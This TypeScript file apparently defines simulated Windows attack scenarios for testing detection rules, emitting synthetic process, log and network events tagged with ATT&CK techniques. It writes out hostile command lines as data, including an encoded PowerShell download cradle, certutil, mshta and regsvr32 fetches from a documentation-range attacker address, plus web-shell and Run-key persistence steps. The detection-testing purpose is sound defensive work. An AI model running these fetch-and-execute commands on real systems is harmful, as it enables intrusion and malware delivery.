import { connect, dnsQuery, fileCreate, registrySet } from '../happening.js';
import { SYSTEM32 } from '../windows/actor.js';
import { onWindows } from '../windows/windows-scenario.js';

const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${SYSTEM32}cmd.exe`;

/** Documentation addresses (RFC 5737) stand for the attacker's machines. */
const ATTACKER = '203.0.113.61';

const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

export const EXECUTION = [
  onWindows({
    name: 'office-macro',
    title: 'A document with a macro starts a command line that fetches the next stage',
    techniques: ['T1566.001', 'T1204.002', 'T1059.003'],
    detections: ['Office Application Starts Interpreter', 'Encoded PowerShell Command', 'PowerShell Download Cradle'],
    logs: ['sysmon', 'powershell'],
    act: ({ desk }) => {
      const script = `IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER}/s.ps1')`;
      const word = desk.run(WORD, {
        commandLine: `"${WORD}" /n "${desk.home}\\Downloads\\invoice_4471.docm"`,
        stays: true,
      });
      desk.wait(14);
      const line = `powershell -nop -w hidden -enc ${encoded(script)}`;
      const cmd = desk.run(CMD, { parent: word, commandLine: `cmd.exe /c ${line}` });
      const shell = desk.run(POWERSHELL, { parent: cmd, commandLine: line, stays: true });
      desk.wait(1);
      desk.log('powershell', 4104, {
        MessageNumber: '1',
        MessageTotal: '1',
        ScriptBlockText: script,
        ScriptBlockId: '5f0c2c1e-8d0a-4d0e-9d63-1f1f6a6f5c11',
        Path: '',
      });
      desk.note((by, at) => connect(by, at, 50_233, ATTACKER, 80), shell);
    },
  }),
  onWindows({
    name: 'wmi-execution',
    title: 'A command is started on a server through WMI',
    techniques: ['T1047'],
    detections: ['WMI Provider Starts Interpreter'],
    act: ({ server }) => {
      const provider = server.system('wbem\\WmiPrvSE.exe');
      const cmd = server.run(CMD, {
        parent: provider,
        user: 'CORP\\svc-deploy',
        integrity: 'High',
        commandLine: 'cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1729761192 2>&1',
      });
      server.run(`${SYSTEM32}whoami.exe`, { parent: cmd, user: 'CORP\\svc-deploy', commandLine: 'whoami /all' });
    },
  }),
  onWindows({
    name: 'certutil-download',
    title: 'A program of Windows downloads and decodes a payload',
    techniques: ['T1105', 'T1140'],
    detections: ['Certutil Downloads or Decodes a File'],
    act: ({ desk }) => {
      const cmd = desk.run(CMD, { commandLine: 'cmd.exe', stays: true });
      const target = `${desk.home}\\AppData\\Local\\Temp\\u.txt`;
      const certutil = `${SYSTEM32}certutil.exe`;
      const fetch = desk.run(certutil, {
        parent: cmd,
        commandLine: `certutil.exe -urlcache -split -f http://${ATTACKER}/u.txt ${target}`,
      });
      desk.note((by, at) => connect(by, at, 50_410, ATTACKER, 80), fetch);
      desk.note((by, at) => fileCreate(by, at, target), fetch);
      desk.run(certutil, { parent: cmd, commandLine: `certutil -decode ${target} ${target.replace('.txt', '.exe')}` });
    },
  }),
  onWindows({
    name: 'signed-proxies',
    title: 'Programs signed by Microsoft run code for someone else',
    techniques: ['T1218.005', 'T1218.010', 'T1218.011'],
    detections: [
      'Mshta Runs Remote or Inline Script',
      'Regsvr32 Loads Remote Scriptlet',
      'Rundll32 Runs Export From User Folder',
    ],
    act: ({ desk }) => {
      desk.run(`${SYSTEM32}mshta.exe`, { commandLine: `mshta.exe http://${ATTACKER}/update.hta` });
      desk.wait(40);
      desk.run(`${SYSTEM32}regsvr32.exe`, {
        commandLine: `regsvr32.exe /s /n /u /i:http://${ATTACKER}/f.sct scrobj.dll`,
      });
      desk.wait(40);
      desk.run(`${SYSTEM32}rundll32.exe`, {
        commandLine: `rundll32.exe ${desk.home}\\AppData\\Roaming\\vmhelper.dat,StartW`,
      });
    },
  }),
  onWindows({
    name: 'dns-tunnel',
    title: 'Data leaves in the names of DNS queries',
    techniques: ['T1071.004'],
    detections: ['DNS Tunnel in Long Subdomains'],
    act: ({ desk, stage }) => {
      const image = `${desk.home}\\AppData\\Local\\Temp\\svch0st.exe`;
      const client = desk.run(image, { stays: true });
      for (let i = 0; i < 40; i += 1) {
        desk.wait(20);
        const label = stage.random.hex(52);
        desk.note((by, at) => dnsQuery(by, at, `${label}.t.updates-cdn.example`, ['203.0.113.88']), client);
      }
    },
  }),
  onWindows({
    name: 'remote-admin-tool',
    title: 'A remote administration tool that the company does not use',
    techniques: ['T1219'],
    detections: ['Remote Administration Tool Not Approved'],
    act: ({ desk }) => {
      const image = `${desk.home}\\Downloads\\AnyDesk.exe`;
      const tool = desk.run(image, { stays: true });
      desk.note((by, at) => dnsQuery(by, at, 'relay-7f3.net.anydesk.com', ['203.0.113.99']), tool);
    },
  }),
  onWindows({
    name: 'web-shell',
    title: 'A web server writes a script and then starts command lines',
    techniques: ['T1505.003'],
    detections: ['Web Server Starts Command Line', 'Script Written to Web Folder by Web Server'],
    act: ({ server }) => {
      const iis = server.running(`${SYSTEM32}inetsrv\\w3wp.exe`, 'IIS APPPOOL\\DefaultAppPool');
      server.note((by, at) => fileCreate(by, at, 'C:\\inetpub\\wwwroot\\uploads\\thumb.aspx'), iis);
      for (const command of ['whoami', 'ipconfig /all', 'net user /domain']) {
        server.wait(30);
        server.run(CMD, { parent: iis, user: iis.user, integrity: 'High', commandLine: `"cmd.exe" /c ${command}` });
      }
    },
  }),
  onWindows({
    name: 'run-key',
    title: 'A program enters itself in a Run key',
    techniques: ['T1547.001'],
    detections: ['Run Key Points to User Folder'],
    act: ({ desk }) => {
      const path = `${desk.home}\\AppData\\Roaming\\OneDriveUpdater\\update.exe`;
      const program = desk.run(path, { stays: true });
      const key =
        'HKU\\S-1-5-21-1004336348-1177238915-682003330-1417\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdater';
      desk.note((by, at) => registrySet(by, at, key, `"${path}" /background`), program);
    },
  }),
];
